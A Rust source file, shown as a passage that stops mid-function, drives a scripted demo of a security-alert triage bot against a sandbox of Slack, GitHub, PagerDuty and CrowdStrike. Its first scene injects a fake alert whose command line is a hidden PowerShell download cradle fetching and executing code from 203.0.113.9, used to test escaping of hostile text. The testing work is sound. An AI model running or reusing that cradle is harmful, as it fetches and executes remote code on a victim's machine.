//! `vigil demo`: the sandbox and the bot in one process, a scripted scenario, and a verdict.
//!
//! Every expectation is read back from the sandbox the way a person or a vendor would see it:
//! Slack messages through `conversations.history`/`replies`, issues through GitHub's REST API,
//! incidents through PagerDuty's, alerts through CrowdStrike's Alerts API (with an OAuth2 token,
//! like the client). Falcon does not return an alert's comments, so the comment a close carried
//! is read from what CrowdStrike received. Nothing is read from Vigil's internals, and each
//! verdict checks the thing it names: a card is matched to the alert that opened it, a label
//! or an answer is looked for by its words.

use std::cell::RefCell;
use std::future::Future;
use std::time::{Duration, Instant};

use serde_json::{Value, json};

use crate::config::Config;
use crate::sandbox_config as write_config;
use vigil_sandbox as sandbox;

/// Options for one demo run.
#[derive(Debug, Clone, Default)]
pub struct DemoOptions {
    /// Leave the sandbox and bot running after the scenario (until Ctrl-C).
    pub keep_running: bool,
}

/// How long any one expectation may take to come true.
const WAIT: Duration = Duration::from_secs(30);

/// One step's verdict.
struct Check {
    name: String,
    ok: bool,
    detail: String,
}

/// The running scenario: where things are and what has been checked.
struct Demo {
    http: reqwest::Client,
    base: String,
    creds: Value,
    alerts: String,
    checks: RefCell<Vec<Check>>,
    /// (case id, composite id) of every case the scenario opened.
    cases: RefCell<Vec<(String, String)>>,
    /// The CrowdStrike bearer token, once issued (Falcon limits token requests per IP).
    falcon_token: RefCell<Option<String>>,
}

/// Seeded people and devices the scenario uses.
mod cast {
    pub const ANA: &str = "U0ANA00001";
    pub const BEN: &str = "U0BEN00002";
    pub const CAROL: &str = "U0CAROL003";
    pub const DAN: &str = "U0DAN00004";
    pub const ERIN: &str = "U0ERIN0005";
    pub const CAROL_MBP: &str = "a1b2c3d4e5f60718293a4b5c6d7e8f01";
    pub const DAN_WIN: &str = "b2c3d4e5f60718293a4b5c6d7e8f0102";
    pub const ERIN_LNX: &str = "c3d4e5f60718293a4b5c6d7e8f010203";
}

/// Runs the scenario; `Ok(true)` when every step happened.
pub async fn run(opts: DemoOptions) -> anyhow::Result<bool> {
    let sandbox = sandbox::start("127.0.0.1:0".parse()?).await?;
    let base = sandbox.base_url();
    let dir = tempfile::tempdir()?;
    let config_path = dir.path().join("vigil.toml");
    write_config::write(&config_path, &sandbox.served())?;
    let mut config = Config::load(&config_path)?;
    config.triage.reminder_after = Duration::from_secs(2);
    config.triage.escalate_after = Duration::from_secs(5);
    println!("sandbox  {base}");
    println!(
        "config   {} (demo timers: reminder 2 s, escalation 5 s)",
        config_path.display()
    );
    let bot = crate::run::start(&config).await?;

    let demo = Demo {
        http: crate::vendors::http::client()?,
        creds: serde_json::to_value(&sandbox.sandbox.credentials)?,
        alerts: config.slack.alerts_channel.clone(),
        base: base.clone(),
        checks: RefCell::new(vec![]),
        cases: RefCell::new(vec![]),
        falcon_token: RefCell::new(None),
    };
    let connected = demo
        .wait("bot connects over Socket Mode (2 connections)", || async {
            Ok(sandbox.sandbox.slack.socket.connections() >= 2)
        })
        .await;
    if connected {
        demo.scenario().await;
    }

    println!("\n== verdict");
    let checks = demo.checks.take();
    for c in checks.iter() {
        println!(
            "{} {}{}",
            if c.ok { "PASS" } else { "FAIL" },
            c.name,
            if c.detail.is_empty() {
                String::new()
            } else {
                format!(": {}", c.detail)
            }
        );
    }
    let all = !checks.is_empty() && checks.iter().all(|c| c.ok);
    println!(
        "\n{}",
        if all {
            "demo: every step happened"
        } else {
            "demo: some steps did not happen"
        }
    );
    if opts.keep_running {
        println!(
            "--keep-running: sandbox on {base}, config {}; Ctrl-C to stop",
            config_path.display()
        );
        crate::run::shutdown_signal().await;
    }
    bot.shutdown().await;
    sandbox.shutdown().await;
    Ok(all)
}

impl Demo {
    async fn scenario(&self) {
        self.triage_help().await;
        let seq = self.last_seq().await;
        let carol_case = self.owner_confirms().await;
        self.print_vendor_log(seq).await;
        let seq = self.last_seq().await;
        self.duplicate_and_grouped(carol_case.as_deref()).await;
        self.print_vendor_log(seq).await;
        let seq = self.last_seq().await;
        self.owner_denies().await;
        self.print_vendor_log(seq).await;
        let seq = self.last_seq().await;
        self.high_identity_alert().await;
        self.print_vendor_log(seq).await;
        let seq = self.last_seq().await;
        self.silent_owner().await;
        self.print_vendor_log(seq).await;
        self.refusals().await;
        if let Some(case) = carol_case {
            let seq = self.last_seq().await;
            self.resolve_by_command(&case).await;
            self.print_vendor_log(seq).await;
        }
        let seq = self.last_seq().await;
        self.resolve_by_modal().await;
        self.print_vendor_log(seq).await;
    }

    // ----- the scenes -----

    async fn triage_help(&self) {
        println!("\n== An analyst asks for help");
        let v = self.command(cast::ANA, &self.alerts.clone(), "help").await;
        let text = v["response"]["text"].as_str().unwrap_or("").to_string();
        println!(
            "Ana typed `/triage help` and saw (acked in {} ms):\n{}",
            v["ack_ms"],
            indent(&text)
        );
        self.check(
            "/triage help answered in the ack",
            v["acked"] == json!(true) && text.contains("/triage resolve"),
            "",
        );
    }

    async fn owner_confirms(&self) -> Option<String> {
        println!("\n== 1. Low alert on Carol's laptop; Carol says it was her");
        let cmdline = "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')\" <!channel>";
        let alert = self
            .inject(json!({"device": {"device_id": cast::CAROL_MBP}, "severity": 30,
                "name": "PowerShellDownloadCradle", "display_name": "Suspicious PowerShell download cradle",
                "tactic": "Execution", "technique": "Command and Scripting Interpreter", "technique_id": "T1059",
                "cmdline": cmdline}))
            .await;
        let card = self.wait_card_for_alert(&alert).await?;
        let case = card_case(&card);
        let issue = self.wait_issue(&case).await;
        let dm = self.wait_dm(cast::CAROL, &case).await;
        self.check(
            &format!("{case}: card, GitHub issue and owner DM"),
            issue.is_some() && dm.is_some(),
            "",
        );
        // The command line is shown, escaped (`<!channel>` reads as text, never as a ping), on
        // the card and in the DM; no field of either carries the raw mention.
        let escaped = cmdline
            .replace('&', "&amp;")
            .replace('<', "&lt;")
            .replace('>', "&gt;");
        let shown_escaped =
            |m: &Value| !m.to_string().contains("<!channel>") && message_text(m).contains(&escaped);
        self.check(
            &format!("{case}: hostile text cannot ping"),
            shown_escaped(&card) && dm.as_ref().is_some_and(shown_escaped),
            "the command line is on the card and in the DM, escaped",
        );
        let dm = dm?;
        println!("Carol's DM:\n{}", indent(&message_text(&dm)));
        self.check(
            &format!("{case}: DM has the three answers"),
            ["owner_me", "owner_not_me", "owner_not_mine"]
                .iter()
                .all(|a| has_action(&dm, a)),
            "",
        );
        let dm_channel = self.dm_channel(cast::CAROL).await;
        // Her answer in her own words: the label of the button she presses.
        let answer = button_label(&dm, "owner_me").unwrap_or_default();
        let v = self
            .click(cast::CAROL, &dm_channel, &ts(&dm), "owner_me")
            .await;
        println!("Carol pressed \"{answer}\" (acked={}).", v["acked"]);
        let labelled = self
            .wait(
                &format!("{case}: issue labelled owner-confirmed with a comment"),
                || self.issue_has(&case, "owner-confirmed", 1),
            )
            .await;
        let (alerts, card_ts) = (self.alerts.clone(), ts(&card));
        let said = format!("<@{}> answered *{answer}*", cast::CAROL);
        let threaded = self
            .wait(
                &format!("{case}: the card's thread says what Carol answered"),
                || async {
                    Ok(!answer.is_empty()
                        && self
                            .replies(&alerts, &card_ts)
                            .await
                            .iter()
                            .any(|m| message_text(m).contains(&said)))
                },
            )
            .await;
        if let Some(latest) = self
            .cards()
            .await
            .into_iter()
            .find(|c| card_case(c) == case)
        {
            self.show_card("#alerts", &latest);
        }
        if labelled && threaded {
            self.print_thread("#alerts thread", &alerts, &card_ts).await;
        }
        Some(case)
    }

    async fn duplicate_and_grouped(&self, case: Option<&str>) {
        println!("\n== 2. The same alert again, and a related one on the same laptop");
        let Some(case) = case else { return };
        let before = self.cards().await.len();
        let original = self.alert_of_case(case);
        if let Some(id) = &original {
            self.inject(json!({"composite_id": id, "severity": 30}))
                .await;
        }
        self.inject(
            json!({"device": {"device_id": cast::CAROL_MBP}, "severity": 35,
            "name": "PowerShellEncodedCommand", "display_name": "PowerShell encoded command",
            "tactic": "Execution", "technique_id": "T1059"}),
        )
        .await;
        let alerts = self.alerts.clone();
        let grouped = self
            .wait(
                &format!("{case}: grouped alert noted in the card's thread"),
                || self.thread_contains(&alerts, case, "joined"),
            )
            .await;
        // Alerts are admitted in order, so once the grouped one (injected last) shows, the
        // duplicate before it was handled too: no need to wait and hope.
        let after = self.cards().await.len();
        self.check(
            "no second card for a duplicate or grouped alert",
            after == before,
            &format!("{before} card(s) before, {after} after"),
        );
        let issues = self.issues().await.len();
        self.check(
            "no second GitHub issue",
            issues == 1,
            &format!("{issues} issue(s)"),
        );
        let counted = self
            .wait(&format!("{case}: the card counts 2 alerts"), || {
                self.card_says(case, "2 alerts")
            })
            .await;
        if grouped && counted {
            println!("The card of {case} now counts 2 alerts; the duplicate changed nothing.");
        }
    }

    async fn owner_denies(&self) {
        println!("\n== 3. Low alert on Dan's laptop; Dan says it was not him");
        let alert = self
            .inject(json!({"device": {"device_id": cast::DAN_WIN}, "severity": 30,
                "name": "UnsignedBinaryFromDownloads", "display_name": "Unsigned binary from Downloads",
                "tactic": "Execution", "technique_id": "T1204", "technique": "User Execution", "filename": "invoice.pdf.exe"}))
            .await;
        let Some(card) = self.wait_card_for_alert(&alert).await else {
            return;
        };
        let case = card_case(&card);
        let Some(dm) = self.wait_dm(cast::DAN, &case).await else {
            return;
        };
        let dm_channel = self.dm_channel(cast::DAN).await;
        self.click(cast::DAN, &dm_channel, &ts(&dm), "owner_not_me")
            .await;
        println!("Dan pressed \"No, this wasn't me\".");
        let paged = self
            .wait(
                &format!("{case}: on-call paged (PagerDuty incident keyed by the case id)"),
                || self.incident(&case),
            )
            .await;
        self.wait(
            &format!("{case}: issue labelled owner-denied and paged"),
            || async {
                Ok(self.issue_has(&case, "owner-denied", 2).await?
                    && self.issue_has(&case, "paged", 2).await?)
            },
        )
        .await;
        if paged {
            self.print_incident(&case).await;
        }
    }

    async fn high_identity_alert(&self) {
        println!("\n== 4. High-priority identity alert for Erin's account");
        let alert = self
            .inject(json!({"product": "idp", "severity": 70, "source_account_upn": "erin.shaw@acme.example", "user_name": "erin.shaw",
                "name": "PasswordSpraying", "display_name": "Password spray against Erin's account",
                "tactic": "Credential Access", "technique_id": "T1110"}))
            .await;
        let Some(card) = self.wait_card_for_alert(&alert).await else {
            return;
        };
        let case = card_case(&card);
        let paged = self
            .wait(&format!("{case}: high priority pages at once"), || {
                self.incident(&case)
            })
            .await;
        self.wait(&format!("{case}: the card shows the escalation"), || {
            self.card_says(&case, "Escalated")
        })
        .await;
        if let Some(latest) = self
            .cards()
            .await
            .into_iter()
            .find(|c| card_case(c) == case)
        {
            self.show_card("#alerts", &latest);
        }
        let dm = self.wait_dm(cast::ERIN, &case).await;
        let informed = dm.as_ref().is_some_and(|d| !has_action(d, "owner_me"));
        self.check(
            &format!("{case}: Erin is told what is happening, not asked"),
            informed,
            "",
        );
        if let (true, Some(dm)) = (paged, dm) {
            println!("Erin's DM:\n{}", indent(&message_text(&dm)));
        }
    }

    async fn silent_owner(&self) {
        println!("\n== 5. Low alert on Erin's laptop; Erin never answers");
        let alert = self
            .inject(json!({"device": {"device_id": cast::ERIN_LNX}, "severity": 25,
                "name": "CurlToPasteSite", "display_name": "curl to a paste site",
                "tactic": "Command and Control", "technique_id": "T1105", "technique": "Ingress Tool Transfer"}))
            .await;
        let Some(card) = self.wait_card_for_alert(&alert).await else {
            return;
        };
        let case = card_case(&card);
        let Some(dm) = self.wait_dm(cast::ERIN, &case).await else {
            return;
        };
        let dm_channel = self.dm_channel(cast::ERIN).await;
        let dm_ts = ts(&dm);
        let reminded = self
            .wait(
                &format!("{case}: reminder in the DM thread, mentioning Erin"),
                || self.thread_mentions(&dm_channel, &dm_ts, cast::ERIN),
            )
            .await;
        let escalated = self
            .wait(&format!("{case}: silence escalates to a page"), || {
                self.incident(&case)
            })
            .await;
        if reminded && escalated {
            self.print_thread("Erin's DM thread", &dm_channel, &dm_ts)
                .await;
        }
    }

    async fn refusals(&self) {
        println!("\n== 6. Someone who is not an analyst presses Acknowledge");
        let cards = self.cards().await;
        let Some(card) = cards.first() else { return };
        self.click(cast::CAROL, &self.alerts.clone(), &ts(card), "case_ack")
            .await;
        let refused = self
            .wait("non-analyst gets a polite refusal", || async {
                let e = self
                    .get(&format!("/_sandbox/slack/ephemeral?user={}", cast::CAROL))
                    .await?;
                Ok(e.to_string().contains("only analysts"))
            })
            .await;
        if refused {
            println!("Carol saw: \"Sorry, only analysts can act on cases.\"");
        }
    }

    async fn resolve_by_command(&self, case: &str) {
        println!("\n== 7. Ana resolves {case} with /triage");
        let v = self
            .command(
                cast::ANA,
                &self.alerts.clone(),
                &format!("resolve {case} expected admin activity"),
            )
            .await;
        println!("Ana saw: {}", v["response"]["text"].as_str().unwrap_or(""));
        let closed = self
            .wait(
                &format!("{case}: GitHub issue closed as not planned"),
                || self.issue_closed(case, "not_planned"),
            )
            .await;
        self.wait_closed_everywhere(case, cast::ANA, "expected admin activity")
            .await;
        let _ = closed;
    }

    async fn resolve_by_modal(&self) {
        println!("\n== 8. Ben resolves Dan's case from the card's Resolve button");
        let cards = self.cards().await;
        let Some(card) = cards.iter().find(|c| self.case_is_paged(c)) else {
            self.check("a paged case to resolve", false, "none found");
            return;
        };
        let case = card_case(card);
        self.click(cast::BEN, &self.alerts.clone(), &ts(card), "case_resolve")
            .await;
        let view = RefCell::new(String::new());
        let opened = self
            .wait(&format!("{case}: the resolve modal opens"), || async {
                let views = self
                    .get(&format!("/_sandbox/slack/views?user={}", cast::BEN))
                    .await?;
                if let Some(v) = views
                    .as_array()
                    .and_then(|a| a.iter().find(|v| v["callback_id"] == json!("resolve_case")))
                {
                    *view.borrow_mut() = v["id"].as_str().unwrap_or("").to_string();
                    return Ok(true);
                }
                Ok(false)
            })
            .await;
        if !opened {
            return;
        }
        let view_id = view.borrow().clone();
        let reason = "host reimaged, credentials rotated";
        self.post(
            "/_sandbox/slack/submit",
            json!({"user": cast::BEN, "view_id": view_id,
            "values": {"reason": {"reason": {"type": "plain_text_input", "value": reason}}}}),
        )
        .await;
        self.wait(&format!("{case}: PagerDuty incident resolved"), || {
            self.incident_resolved(&case)
        })
        .await;
        self.wait(&format!("{case}: GitHub issue closed as completed"), || {
            self.issue_closed(&case, "completed")
        })
        .await;
        self.wait_closed_everywhere(&case, cast::BEN, reason).await;
    }

    /// The end of a resolve: the CrowdStrike alert is closed (read through the Alerts API),
    /// the close carried the reason as its comment, and the card turned final (no buttons,
    /// the resolution in its state).
    async fn wait_closed_everywhere(&self, case: &str, by: &str, reason: &str) {
        self.wait(
            &format!("{case}: CrowdStrike alert closed (Alerts API)"),
            || self.alert_closed(case),
        )
        .await;
        self.wait(
            &format!("{case}: CrowdStrike received the reason as a comment"),
            || self.alert_commented(case, reason),
        )
        .await;
        self.wait(
            &format!("{case}: card is final (no buttons, resolved by {by})"),
            || self.card_final(case, by, reason),
        )
        .await;
    }

    // ----- reading back -----

    /// The highest recorded request sequence number so far.
    async fn last_seq(&self) -> u64 {
        self.get("/_sandbox/requests")
            .await
            .ok()
            .and_then(|v| {
                v["requests"]
                    .as_array()
                    .and_then(|a| a.last())
                    .and_then(|r| r["seq"].as_u64())
            })
            .unwrap_or(0)
    }

    /// Prints what each vendor received since `since`: the writes Vigil made (reads, polls and
    /// the demo's own look-ups are left out).
    async fn print_vendor_log(&self, since: u64) {
        let Ok(v) = self.get(&format!("/_sandbox/requests?since={since}")).await else {
            return;
        };
        let lines: Vec<String> = v["requests"]
            .as_array()
            .map(|a| a.iter().filter_map(vendor_line).collect())
            .unwrap_or_default();
        if lines.is_empty() {
            return;
        }
        println!("Vendors received:");
        for l in lines {
            println!("    {l}");
        }
    }

    async fn wait<F, Fut>(&self, name: &str, f: F) -> bool
    where
        F: Fn() -> Fut,
        Fut: Future<Output = anyhow::Result<bool>>,
    {
        let started = Instant::now();
        let mut last_err = String::new();
        while started.elapsed() < WAIT {
            match f().await {
                Ok(true) => {
                    self.check(
                        name,
                        true,
                        &format!("after {} ms", started.elapsed().as_millis()),
                    );
                    return true;
                }
                Ok(false) => {}
                Err(e) => last_err = e.to_string(),
            }
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
        self.check(
            name,
            false,
            &format!("not seen within {} s {last_err}", WAIT.as_secs()),
        );
        false
    }

    fn check(&self, name: &str, ok: bool, detail: &str) {
        self.checks.borrow_mut().push(Check {
            name: name.to_string(),
            ok,
            detail: detail.to_string(),
        });
    }

    async fn get(&self, path: &str) -> anyhow::Result<Value> {
        Ok(self
            .http
            .get(format!("{}{}", self.base, path))
            .send()
            .await?
            .json()
            .await?)
    }

    async fn post(&self, path: &str, body: Value) -> Value {
        match self
            .http
            .post(format!("{}{}", self.base, path))
            .json(&body)
            .send()
            .await
        {
            Ok(r) => r.json().await.unwrap_or(Value::Null),
            Err(_) => Value::Null,
        }
    }

    async fn slack(&self, method: &str, args: &[(&str, &str)]) -> anyhow::Result<Value> {
        let token = self.creds["slack"]["bot_token"].as_str().unwrap_or("");
        Ok(self
            .http
            .post(format!("{}/slack/api/{method}", self.base))
            .bearer_auth(token)
            .form(args)
            .send()
            .await?
            .json()
            .await?)
    }

    async fn github(&self, path: &str) -> anyhow::Result<Value> {
        let token = self.creds["github"]["token"].as_str().unwrap_or("");
        let repo = self.creds["github"]["repo"].as_str().unwrap_or("");
        Ok(self
            .http
            .get(format!("{}/github/repos/{repo}{path}", self.base))
            .bearer_auth(token)
            .send()
            .await?
            .json()
            .await?)
    }

    async fn inject(&self, alert: Value) -> String {
        let v = self.post("/_sandbox/crowdstrike/alerts", alert).await;
        v["composite_id"].as_str().unwrap_or("").to_string()
    }

    async fn command(&self, user: &str, channel: &str, text: &str) -> Value {
        self.post(
            "/_sandbox/slack/command",
            json!({"user": user, "channel": channel, "command": "/triage", "text": text}),
        )
        .await
    }

    async fn click(&self, user: &str, channel: &str, ts: &str, action_id: &str) -> Value {
        self.post(
            "/_sandbox/slack/click",
            json!({"user": user, "channel": channel, "ts": ts, "action_id": action_id}),
        )
        .await
    }

    /// Top-level messages in #alerts carrying Vigil's card metadata, oldest first.
    async fn cards(&self) -> Vec<Value> {
        let Ok(v) = self
            .slack(
                "conversations.history",
                &[
                    ("channel", &self.alerts),
                    ("include_all_metadata", "true"),
                    ("limit", "200"),
                ],
            )
            .await
        else {
            return vec![];
        };
        let mut cards: Vec<Value> = v["messages"]
            .as_array()
            .map(|a| {
                a.iter()
                    .filter(|m| m["metadata"]["event_payload"]["kind"] == json!("card"))
                    .cloned()
                    .collect()
            })
            .unwrap_or_default();
        cards.reverse();
        cards
    }

    /// Waits for the card of a new case (one the scenario has not seen) that shows this alert
    /// (read back through the Alerts API): its name, its host or account, and its console
    /// link. Remembers which alert opened the case.
    async fn wait_card_for_alert(&self, composite_id: &str) -> Option<Value> {
        let started = Instant::now();
        let mut found = None;
        let mut expected = None;
        while started.elapsed() < WAIT && found.is_none() {
            if expected.is_none() {
                expected = self
                    .falcon_alert(composite_id)
                    .await
                    .ok()
                    .flatten()
                    .map(|a| AlertFacts::of(&a));
            }
            if let Some(facts) = &expected {
                found = self.cards().await.into_iter().find(|c| {
                    let new = !self
                        .cases
                        .borrow()
                        .iter()
                        .any(|(case, _)| *case == card_case(c));
                    new && facts.shown_on(c)
                });
            }
            if found.is_none() {
                tokio::time::sleep(Duration::from_millis(100)).await;
            }
        }
        let detail = match (&found, &expected) {
            (Some(c), Some(f)) => format!(
                "{} shows {} on {} after {} ms",
                card_case(c),
                f.name,
                f.subject,
                started.elapsed().as_millis()
            ),
            (None, Some(f)) => format!("no new card shows {} on {}", f.name, f.subject),
            (_, None) => format!("alert {composite_id} not found through the Alerts API"),
        };
        self.check(
            "a card for the alert appears in #alerts",
            found.is_some(),
            &detail,
        );
        if let Some(c) = &found {
            self.cases
                .borrow_mut()
                .push((card_case(c), composite_id.to_string()));
        }
        found
    }

    /// The alert that opened a case.
    fn alert_of_case(&self, case: &str) -> Option<String> {
        self.cases
            .borrow()
            .iter()
            .find(|(c, _)| c == case)
            .map(|(_, a)| a.clone())
    }

    async fn issues(&self) -> Vec<Value> {
        self.github("/issues?state=all&per_page=100")
            .await
            .ok()
            .and_then(|v| v.as_array().cloned())
            .unwrap_or_default()
    }

    async fn issue_of(&self, case: &str) -> Option<Value> {
        let marker = format!("<!-- vigil:case={case} -->");
        self.issues()
            .await
            .into_iter()
            .find(|i| i["body"].as_str().is_some_and(|b| b.contains(&marker)))
    }

    async fn wait_issue(&self, case: &str) -> Option<Value> {
        let mut found = None;
        let started = Instant::now();
        while started.elapsed() < WAIT {
            if let Some(i) = self.issue_of(case).await {
                found = Some(i);
                break;
            }
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
        if let Some(i) = &found {
            println!(
                "GitHub issue #{}: {}",
                i["number"],
                i["title"].as_str().unwrap_or("")
            );
        }
        found
    }

    async fn issue_has(&self, case: &str, label: &str, min_comments: u64) -> anyhow::Result<bool> {
        let Some(i) = self.issue_of(case).await else {
            return Ok(false);
        };
        let labelled = i["labels"]
            .as_array()
            .is_some_and(|l| l.iter().any(|x| x["name"] == json!(label)));
        Ok(labelled && i["comments"].as_u64().unwrap_or(0) >= min_comments)
    }

    async fn issue_closed(&self, case: &str, reason: &str) -> anyhow::Result<bool> {
        let Some(i) = self.issue_of(case).await else {
            return Ok(false);
        };
        Ok(i["state"] == json!("closed") && i["state_reason"] == json!(reason))
    }

    async fn dm_channel(&self, user: &str) -> String {
        self.slack("conversations.open", &[("users", user)])
            .await
            .ok()
            .and_then(|v| v["channel"]["id"].as_str().map(str::to_string))
            .unwrap_or_default()
    }

    async fn wait_dm(&self, user: &str, case: &str) -> Option<Value> {
        let channel = self.dm_channel(user).await;
        let started = Instant::now();
        while started.elapsed() < WAIT {
            if let Ok(v) = self
                .slack(
                    "conversations.history",
                    &[("channel", &channel), ("include_all_metadata", "true")],
                )
                .await
                && let Some(m) = v["messages"].as_array().and_then(|a| {
                    a.iter().find(|m| {
                        m["metadata"]["event_payload"]["case_id"] == json!(case)
                            && m["metadata"]["event_payload"]["kind"] == json!("dm")
                    })
                })
            {
                return Some(m.clone());
            }
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
        self.check(&format!("{case}: owner DM"), false, "no DM seen");
        None
    }

    async fn replies(&self, channel: &str, ts: &str) -> Vec<Value> {
        self.slack("conversations.replies", &[("channel", channel), ("ts", ts)])
            .await
            .ok()
            .and_then(|v| v["messages"].as_array().cloned())
            .map(|mut m| {
                if !m.is_empty() {
                    m.remove(0);
                }
                m
            })
            .unwrap_or_default()
    }

    async fn thread_contains(
        &self,
        channel: &str,
        case: &str,
        needle: &str,
    ) -> anyhow::Result<bool> {
        let cards = self.cards().await;
        let Some(card) = cards.iter().find(|c| card_case(c) == case) else {
            return Ok(false);
        };
        Ok(self
            .replies(channel, &ts(card))
            .await
            .iter()
            .any(|m| message_text(m).to_lowercase().contains(needle)))
    }

    async fn thread_mentions(&self, channel: &str, ts: &str, user: &str) -> anyhow::Result<bool> {
        let mention = format!("<@{user}>");
        Ok(self
            .replies(channel, ts)
            .await
            .iter()
            .any(|m| message_text(m).contains(&mention)))
    }

    async fn incident(&self, case: &str) -> anyhow::Result<bool> {
        Ok(!self.incidents(case).await?.is_empty())
    }

    async fn incidents(&self, case: &str) -> anyhow::Result<Vec<Value>> {
        let token = self.creds["pagerduty"]["api_token"].as_str().unwrap_or("");
        let v: Value = self
            .http
            .get(format!("{}/pagerduty/api/incidents", self.base))
            .header("authorization", format!("Token token={token}"))
            .query(&[("incident_key", case), ("limit", "100")])
            .send()
            .await?
            .json()
            .await?;
        Ok(v["incidents"].as_array().cloned().unwrap_or_default())
    }

    async fn incident_resolved(&self, case: &str) -> anyhow::Result<bool> {
        Ok(self
            .incidents(case)
            .await?
            .iter()
            .all(|i| i["status"] == json!("resolved"))
            && self.incident(case).await?)
    }

    /// A CrowdStrike bearer token (`POST /oauth2/token`, client credentials), kept once issued.
    async fn falcon_token(&self) -> anyhow::Result<String> {
        if let Some(t) = self.falcon_token.borrow().clone() {
            return Ok(t);
        }
        let cs = &self.creds["crowdstrike"];
        let v: Value = self
            .http
            .post(format!("{}/crowdstrike/oauth2/token", self.base))
            .form(&[
                ("client_id", cs["client_id"].as_str().unwrap_or("")),
                ("client_secret", cs["client_secret"].as_str().unwrap_or("")),
            ])
            .send()
            .await?
            .json()
            .await?;
        let token = v["access_token"]
            .as_str()
            .ok_or_else(|| anyhow::anyhow!("CrowdStrike issued no token: {v}"))?
            .to_string();
        *self.falcon_token.borrow_mut() = Some(token.clone());
        Ok(token)
    }

    /// One alert by composite id, through `POST /alerts/entities/alerts/v2`.
    async fn falcon_alert(&self, composite_id: &str) -> anyhow::Result<Option<Value>> {
        let token = self.falcon_token().await?;
        let r = self
            .http
            .post(format!(
                "{}/crowdstrike/alerts/entities/alerts/v2",
                self.base
            ))
            .bearer_auth(token)
            .json(&json!({"composite_ids": [composite_id]}))
            .send()
            .await?;
        if r.status() == reqwest::StatusCode::UNAUTHORIZED {
            self.falcon_token.borrow_mut().take();
            anyhow::bail!("CrowdStrike answered 401; a new token next time");
        }
        let v: Value = r.json().await?;
        Ok(v["resources"]
            .as_array()
            .and_then(|a| a.iter().find(|x| x["composite_id"] == json!(composite_id)))
            .cloned())
    }

    async fn alert_closed(&self, case: &str) -> anyhow::Result<bool> {
        let Some(id) = self.alert_of_case(case) else {
            return Ok(false);
        };
        Ok(self
            .falcon_alert(&id)
            .await?
            .is_some_and(|a| a["status"] == json!("closed")))
    }

    /// Whether CrowdStrike received a status update for the case's alert whose comment
    /// carries `reason` (Falcon's alert objects do not include comments).
    async fn alert_commented(&self, case: &str, reason: &str) -> anyhow::Result<bool> {
        let Some(id) = self.alert_of_case(case) else {
            return Ok(false);
        };
        let v = self.get("/_sandbox/requests?service=crowdstrike").await?;
        Ok(v["requests"].as_array().is_some_and(|reqs| {
            reqs.iter().any(|r| {
                let b = &r["body"];
                r["method"] == json!("PATCH")
                    && r["status"] == json!(200)
                    && b["composite_ids"]
                        .as_array()
                        .is_some_and(|ids| ids.contains(&json!(id)))
                    && b["action_parameters"].as_array().is_some_and(|ps| {
                        ps.iter().any(|p| {
                            p["name"] == json!("append_comment")
                                && p["value"].as_str().is_some_and(|c| c.contains(reason))
                        })
                    })
            })
        }))
    }

    async fn card_says(&self, case: &str, needle: &str) -> anyhow::Result<bool> {
        let cards = self.cards().await;
        Ok(cards
            .iter()
            .any(|c| card_case(c) == case && message_text(c).contains(needle)))
    }

    /// The card has no buttons left and its state says who resolved it and why.
    async fn card_final(&self, case: &str, by: &str, reason: &str) -> anyhow::Result<bool> {
        let cards = self.cards().await;
        let Some(card) = cards.iter().find(|c| card_case(c) == case) else {
            return Ok(false);
        };
        let no_buttons = card["blocks"]
            .as_array()
            .is_some_and(|b| b.iter().all(|b| b["type"] != json!("actions")));
        let state = format!("Resolved by <@{by}>: {reason}");
        Ok(no_buttons && message_text(card).contains(&state))
    }

    fn case_is_paged(&self, card: &Value) -> bool {
        has_action(card, "case_resolve") && card.to_string().to_lowercase().contains("paged")
    }

    fn show_card(&self, place: &str, card: &Value) {
        println!(
            "{place} card for {}:\n{}",
            card_case(card),
            indent(&message_text(card))
        );
    }

    async fn print_thread(&self, place: &str, channel: &str, ts: &str) {
        println!("{place}:");
        for m in self.replies(channel, ts).await {
            println!("{}", indent(&message_text(&m)));
        }
    }

    async fn print_incident(&self, case: &str) {
        if let Ok(list) = self.incidents(case).await {
            for i in list {
                println!(
                    "PagerDuty incident {} [{}] {}: {}",
                    i["id"].as_str().unwrap_or(""),
                    i["status"].as_str().unwrap_or(""),
                    i["incident_key"].as_str().unwrap_or(""),
                    i["title"].as_str().unwrap_or("")
                );
            }
        }
    }
}

/// One recorded request as a line, if it is a write Vigil made.
fn vendor_line(r: &Value) -> Option<String> {
    let service = r["service"].as_str()?;
    let method = r["method"].as_str()?;
    let path = r["path"].as_str()?;
    let status = r["status"].as_u64().unwrap_or(0);
    let body = &r["body"];
    let what = match service {
        "slack" => {
            let m = path.trim_start_matches("/api/");
            if !matches!(
                m,
                "chat.postMessage"
                    | "chat.update"
                    | "views.open"
                    | "views.publish"
                    | "chat.postEphemeral"
            ) {
                return None;
            }
            let place = body["channel"]
                .as_str()
                .or(body["user_id"].as_str())
                .unwrap_or("");
            let thread = if body["thread_ts"].is_string() {
                " (thread)"
            } else {
                ""
            };
            format!("{m} {place}{thread}")
        }
        "github" if method != "GET" => {
            let mut w = format!("{method} {}", path.split('?').next().unwrap_or(path));
            if let Some(state) = body["state"].as_str() {
                w.push_str(&format!(
                    " state={state} state_reason={}",
                    body["state_reason"].as_str().unwrap_or("")
                ));
            }
            if let Some(labels) = body["labels"].as_array().or(body.as_array()) {
                let l: Vec<&str> = labels.iter().filter_map(Value::as_str).collect();
                w.push_str(&format!(" labels={}", l.join(",")));
            }
            w
        }
        "pagerduty" if method == "POST" => format!(
            "{} dedup_key={}",
            body["event_action"].as_str().unwrap_or("?"),
            body["dedup_key"].as_str().unwrap_or("")
        ),
        "crowdstrike" if method == "PATCH" || path.contains("devices-actions") => {
            let actions: Vec<String> = body["action_parameters"]
                .as_array()
                .map(|a| {
                    a.iter()
                        .map(|p| {
                            format!(
                                "{}={}",
                                p["name"].as_str().unwrap_or(""),
                                p["value"].as_str().unwrap_or("")
                            )
                        })
                        .collect()
                })
                .unwrap_or_default();
            format!(
                "{method} {} {}",
                path.split('?').next().unwrap_or(path),
                actions.join(" ")
            )
        }
        _ => return None,
    };
    Some(format!("{service:<11} {what} → {status}"))
}

fn card_case(card: &Value) -> String {
    card["metadata"]["event_payload"]["case_id"]
        .as_str()
        .unwrap_or("")
        .to_string()
}

fn ts(message: &Value) -> String {
